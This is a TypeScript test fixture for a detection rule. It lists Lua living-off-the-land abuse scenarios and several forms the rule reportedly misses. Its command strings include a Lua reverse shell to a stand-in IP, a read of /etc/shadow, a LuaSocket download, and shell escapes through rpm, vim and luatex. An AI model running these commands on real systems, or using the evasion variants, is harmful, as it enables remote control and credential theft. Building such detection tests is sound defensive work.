import { run, type SampleScenario } from '../scenario.ts';

const bash = { path: '/usr/bin/bash', command: 'bash -i', parent: 'sshd' } as const;

function abuse(id: string, ...processes: SampleScenario['processes']): SampleScenario {
  return { id, label: 'TP', devices: ['lab-lx-01', 'dev-lx-11', 'web-02'], parent: bash, processes };
}

/** Known ways to run commands through Lua, and the forms that the rule can't see: `evades-…`. */
export const livingOffTheLand: readonly SampleScenario[] = [
  abuse(
    'reverse-shell',
    run(
      'interpreter',
      '/usr/local/bin/lua',
      `lua -e "local t=require('socket').tcp() t:connect('203.0.113.9', 4444) while true do local c=t:receive() t:send(io.popen(c):read('*a')) end"`,
    ),
  ),
  abuse('read-shadow', run('interpreter', '/usr/local/bin/lua', `lua -e 'print(io.open("/etc/shadow"):read("*a"))'`)),
  abuse(
    'download-with-luasocket',
    run(
      'interpreter',
      '/usr/bin/lua5.1',
      `lua5.1 -e 'local http, ltn12 = require("socket.http"), require("ltn12") ltn12.pump.all(http.request("http://203.0.113.9/s"), io.open("/tmp/s", "wb"))'`,
    ),
  ),
  abuse('script-on-stdin', run('interpreter', '/usr/local/bin/lua', 'lua -')),
  abuse(
    'rpm-macro',
    run('rpm', '/usr/bin/rpm', `rpm --eval '%{lua:os.execute("/bin/sh")}'`, run('shell', '/usr/bin/bash', '/bin/sh')),
  ),
  abuse('vim-lua', run('vim', '/usr/bin/vim.gtk3', `vim -c ':lua os.execute("reset; exec sh")'`)),
  abuse(
    'luatex-shell-escape',
    run('luatex', '/usr/bin/luahbtex', String.raw`luatex -shell-escape '\directlua{os.execute("/bin/sh")}\end'`),
  ),
  abuse('evades-joined-version', run('interpreter', '/opt/lua/bin/lua54', 'lua54 /dev/shm/.x')),
  abuse('evades-tshark-no-extension', run('tshark', '/usr/bin/tshark', 'tshark -Xlua_script:/tmp/tmp.9aZ')),
  abuse('evades-renamed-interpreter', run('interpreter', '/dev/shm/kworker', '/dev/shm/kworker /dev/shm/.d')),
];
